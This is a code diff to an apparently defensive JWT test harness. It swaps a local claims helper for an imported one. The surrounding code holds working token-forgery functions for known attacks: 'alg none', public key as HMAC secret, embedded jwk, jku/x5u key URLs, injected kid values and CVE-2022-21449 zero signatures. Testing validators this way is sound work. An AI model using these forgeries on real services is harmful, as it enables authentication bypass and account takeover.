@@ -55,6 +55,7 @@ from jwcrypto import jwe, jwk
 from jwcrypto.jwa import JWA
 
 from .access_token import AccessTokenValidator, AuthorizationServer, JwksCache
+from .claims import with_changes
 from .clock import DEMO_EPOCH, Clock, DemoIds, FixedClock, IdSource
 from .compact import b64url_encode, decode_unverified
 from .id_token import ClientRegistration, IdTokenValidator, OpenIDProvider
@@ -120,15 +121,6 @@ _CRYPTO_HASHES = {"256": hashes.SHA256, "384": hashes.SHA384, "512": hashes.SHA5
 # ------------------------------------------------------------------------------------------------
 # Token surgery: what an attacker does with a captured token
 # ------------------------------------------------------------------------------------------------
-def _apply(claims: dict[str, Any], changes: Mapping[str, Any]) -> dict[str, Any]:
-    for name, value in changes.items():
-        if value is None:
-            claims.pop(name, None)
-        else:
-            claims[name] = value
-    return claims
-
-
 def _captured(token: str) -> tuple[dict[str, Any], dict[str, Any]]:
     """Header and claims of a well-formed captured token (read, never verified: the attacker's view)."""
     seen = decode_unverified(token)
@@ -169,14 +161,14 @@ def resign(token: str, key: jwk.JWK, *, header: Mapping[str, Any] | None = None,
     """The captured token with header members and claims changed (``None`` removes one), signed again
     with ``key``. With the issuer's own key this is what a lenient or buggy issuer could mint."""
     old_header, claims = _captured(token)
-    return forge(_apply(old_header, header or {}), _apply(claims, changes), key=key)
+    return forge(with_changes(old_header, header or {}), with_changes(claims, changes), key=key)
 
 
 def forge_unsigned(token: str, alg: str = "none", **changes: Any) -> str:
     """The captured token as an unsecured JWT: ``alg`` replaced (any casing of "none"), the other header
     members kept, claims changed, signature empty (RFC 7519 §6). The attack of CVE-2015-9235."""
     header, claims = _captured(token)
-    return forge({**header, "alg": alg}, _apply(claims, changes))
+    return forge({**header, "alg": alg}, with_changes(claims, changes))
 
 
 def forge_public_key_as_hmac_secret(token: str, public_key: jwk.JWK, alg: str = "HS256", **changes: Any) -> str:
@@ -185,7 +177,7 @@ def forge_public_key_as_hmac_secret(token: str, public_key: jwk.JWK, alg: str = 
     computes the same MAC. Everything needed is public."""
     header, claims = _captured(token)
     pem = public_key.export_to_pem()  # SubjectPublicKeyInfo PEM: what such libraries are configured with
-    return forge({**header, "alg": alg}, _apply(claims, changes), secret=pem)
+    return forge({**header, "alg": alg}, with_changes(claims, changes), secret=pem)
 
 
 def forge_embedded_jwk(token: str, attacker_key: jwk.JWK, **changes: Any) -> str:
@@ -193,7 +185,7 @@ def forge_embedded_jwk(token: str, attacker_key: jwk.JWK, **changes: Any) -> str
     header, claims = _captured(token)
     public = attacker_key.export_public(as_dict=True)
     new = {**header, "kid": public.get("kid"), "jwk": public}
-    return forge(new, _apply(claims, changes), key=attacker_key)
+    return forge(new, with_changes(claims, changes), key=attacker_key)
 
 
 def forge_key_url(token: str, attacker_key: jwk.JWK, *, member: str, url: str, **changes: Any) -> str:
@@ -203,14 +195,14 @@ def forge_key_url(token: str, attacker_key: jwk.JWK, *, member: str, url: str, *
         raise ValueError("member is 'jku' or 'x5u'")
     header, claims = _captured(token)
     new = {**header, "kid": attacker_key.get("kid"), member: url}
-    return forge(new, _apply(claims, changes), key=attacker_key)
+    return forge(new, with_changes(claims, changes), key=attacker_key)
 
 
 def forge_kid(token: str, kid: str, secret: bytes, alg: str = "HS256", **changes: Any) -> str:
     """An HMAC token whose ``kid`` is attacker-chosen text (an SQL fragment, a relative path) and whose
     MAC uses the ``secret`` the attacker expects that text to make a naive key store return."""
     header, claims = _captured(token)
-    return forge({**header, "alg": alg, "kid": kid}, _apply(claims, changes), secret=secret)
+    return forge({**header, "alg": alg, "kid": kid}, with_changes(claims, changes), secret=secret)
 
 
 #: r = s = 0 as the 64-byte r || s of RFC 7518 §3.4, and as the 8-byte ASN.1 DER SEQUENCE that some
@@ -223,7 +215,7 @@ def forge_psychic_signature(token: str, *, der: bool = False, **changes: Any) ->
     """An ES256 token whose "signature" is r = s = 0: CVE-2022-21449, "psychic signatures" (Java 15-18
     skipped ECDSA's 1 <= r, s <= n-1 check, and r = s = 0 verified against every key and message)."""
     header, claims = _captured(token)
-    return forge({**header, "alg": "ES256"}, _apply(claims, changes), signature=PSYCHIC_DER if der else PSYCHIC_RAW)
+    return forge({**header, "alg": "ES256"}, with_changes(claims, changes), signature=PSYCHIC_DER if der else PSYCHIC_RAW)
 
 
 def duplicate_member_payload(claims: Mapping[str, Any], name: str, second: Any) -> bytes:
